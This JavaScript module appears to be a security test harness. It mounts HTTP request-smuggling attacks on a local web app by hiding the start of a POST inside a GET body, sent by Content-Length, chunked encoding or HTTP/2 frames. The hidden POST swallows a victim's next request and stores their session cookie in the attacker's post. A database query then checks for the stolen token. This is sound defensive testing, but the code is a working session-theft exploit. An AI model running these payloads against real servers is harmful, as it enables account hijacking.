// Request smuggling, as somebody tries it who has an account: behind a request that a server may take
// to have no body stands the beginning of a post of their own, which swallows whatever comes next on the
// connection. What comes next is somebody else's request, with their cookie.
import { readFileSync } from 'node:fs';
import http2 from 'node:http2';
import net from 'node:net';
import { join } from 'node:path';
import { encodeForm } from './client.mjs';
import { TOP } from './packages.mjs';

// What Kore reads of a connection at once: where it cuts, the hidden request must begin.
const conf = readFileSync(join(TOP, 'conf', 'development.conf'), 'utf8');
const READ_AT_ONCE = Number(/^http_header_max\s+(\d+)$/m.exec(conf)[1]);

// Until `isDone(text)`, the other side closes, or nothing came for `quiet` ms. Gives { text, closed }.
export function receive(socket, { quiet = 1500, isDone = () => false } = {}) {
	return new Promise((done) => {
		let text = '';
		const end = (closed) => {
			socket.off('data', onData);
			socket.setTimeout(0);
			done({ text, closed });
		};
		const onData = (d) => {
			text += d.toString('latin1');
			if (isDone(text)) end(false);
		};
		socket.setTimeout(quiet, () => end(false));
		socket.on('data', onData);
		for (const what of ['end', 'close', 'error']) socket.once(what, () => end(true));
	});
}

const isWhole = (text) => {
	const head = /^HTTP\/1\.1 [\s\S]*?\r\n\r\n/.exec(text)?.[0];
	const length = /content-length: *(\d+)/i.exec(head ?? '');
	return length !== null && text.length >= head.length + Number(length[1]);
};

export function connect(port) {
	const socket = net.connect({ host: '127.0.0.1', port });
	socket.on('error', () => {});
	return new Promise((done) => {
		socket.once('connect', () => done(socket));
		socket.once('error', () => done(socket));
	});
}

export class Smuggler {
	// attacker, victim: clients that are logged in; host: the name in Host.
	constructor({ site, attacker, victim, host }) {
		Object.assign(this, { site, attacker, victim, host });
		this.token = victim.jar.get('aw_session');
		this.n = 0;
	}

	// The beginning of a question, of which `more` bytes are still to come.
	async beginning(more) {
		const form = encodeForm({
			csrf: (this.csrf ??= await this.attacker.csrf()),
			category: 'billing',
			title: `What comes behind this number ${++this.n}?`,
			tags: '',
		});
		const text = `${form}&body=what+follows+is+stolen%3A+`;
		return [
			'POST /questions HTTP/1.1',
			`Host: ${this.host}`,
			`Cookie: ${this.attacker.cookieHeader}`,
			'Content-Type: application/x-www-form-urlencoded',
			`Content-Length: ${text.length + more}`,
			'',
			text,
		].join('\r\n');
	}

	// What is hidden, behind a head of `head` bytes; of a victim's request of `victim` bytes all but
	// `short` are to be swallowed.
	async hidden({ head, victim }, short) {
		return 'A'.repeat(READ_AT_ONCE - head) + (await this.beginning(victim - short));
	}

	// The attack by HTTP/1.1: as the body of a GET, by its length or in chunks.
	attack(kind, hidden) {
		const head = `GET /readyz HTTP/1.1\r\nHost: ${this.host}\r\n`;
		if (kind === 'length') return `${head}Content-Length: ${hidden.length}\r\n\r\n${hidden}`;
		return `${head}Transfer-Encoding: chunked\r\n\r\n${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
	}

	get victimHeaders() {
		return { accept: 'text/html', 'accept-language': 'en', cookie: `aw_session=${this.token}` };
	}

	get victimRequest() {
		const lines = Object.entries(this.victimHeaders).map(([name, value]) => `${name}: ${value}`);
		return ['GET /account HTTP/1.1', `Host: ${this.host}`, ...lines, '', ''].join('\r\n');
	}

	// Straight: we are the proxy. The attacker's request and then, if it is still open, the victim's on one
	// connection. All ways give whether somebody got what was not theirs.
	async straight(kind, short) {
		const before = this.attack(kind, 'A'.repeat(READ_AT_ONCE)).split('A')[0].length;
		const hidden = await this.hidden({ head: before, victim: this.victimRequest.length }, short);
		const socket = await connect(this.site.port);
		const first = receive(socket, { quiet: 4000, isDone: isWhole });
		socket.write(this.attack(kind, hidden));
		const { text, closed } = await first;
		if (closed) return socket.destroy() && false;
		const second = receive(socket, { quiet: 4000, isDone: isWhole });
		socket.write(this.victimRequest);
		const got = await second;
		socket.destroy();
		return this.isForeign(got.text) || (text.match(/^HTTP\/1\.1 /gm) ?? []).length > 1;
	}

	// Through a proxy at `port`: each has a connection of their own to it. `lengths`: of the heads as the
	// proxy writes them.
	async through(port, kind, lengths, short) {
		const attacker = await connect(port);
		const first = receive(attacker, { quiet: 4000, isDone: isWhole });
		attacker.write(this.attack(kind, await this.hidden(lengths, short)));
		await first;
		attacker.destroy();
		const victim = await connect(port);
		const second = receive(victim, { quiet: 4000, isDone: isWhole });
		victim.write(this.victimRequest);
		const { text } = await second;
		victim.destroy();
		return this.isForeign(text);
	}

	// By HTTP/2, in DATA frames and without content-length, which a look at the headers does not see.
	async byHttp2(port, lengths, short) {
		const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false, servername: this.host });
		session.on('error', () => {});
		const ask = (headers, body) =>
			new Promise((done) => {
				const stream = session.request({ ':authority': this.host, ...headers }, { endStream: body === undefined });
				let text = '';
				let status = 0;
				stream.setTimeout(4000, () => stream.close());
				stream.on('response', (h) => (status = h[':status']));
				stream.on('data', (d) => (text += d.toString('latin1')));
				stream.on('error', () => {});
				stream.on('close', () => done({ status, text }));
				if (body !== undefined) stream.end(body);
			});
		await ask({ ':path': '/readyz', ':method': 'GET' }, await this.hidden(lengths, short));
		const got = await ask({ ':path': '/account', ...this.victimHeaders });
		session.destroy();
		return this.isForeign(got.status === 0 ? '' : `HTTP/1.1 ${got.status}\r\n\r\n${got.text}`);
	}

	// The victim's own account page, or no answer at all: everything else is somebody else's.
	isForeign(text) {
		if (text === '' || /^HTTP\/1\.1 50[0-9]/.test(text)) return false;
		return !(text.startsWith('HTTP/1.1 200') && text.includes(`/users/${this.victim.name}"`));
	}

	// How many of the attacker's posts hold the victim's cookie.
	async stolen() {
		return Number(await this.site.value(`SELECT count(*) FROM posts WHERE strpos(body, :'token') > 0`, { token: this.token }));
	}
}

// How long a proxy makes the heads of the attacker's and the victim's request: `ask(port, attack)` sends
// both through one that leads to `listen`.
export async function lengthsThrough(listen, ask) {
	const heads = {};
	const ear = net.createServer((socket) => {
		let text = '';
		socket.on('error', () => {});
		socket.on('data', (d) => {
			text += d.toString('latin1');
			const length = text.indexOf('\r\n\r\n') + 4;
			if (length === 3) return;
			heads[text.startsWith('GET /readyz') ? 'head' : 'victim'] ??= length;
			socket.end('HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok');
		});
	});
	await new Promise((done) => ear.listen(listen, '127.0.0.1', done));
	try {
		await ask();
	} finally {
		ear.close();
	}
	return heads;
}
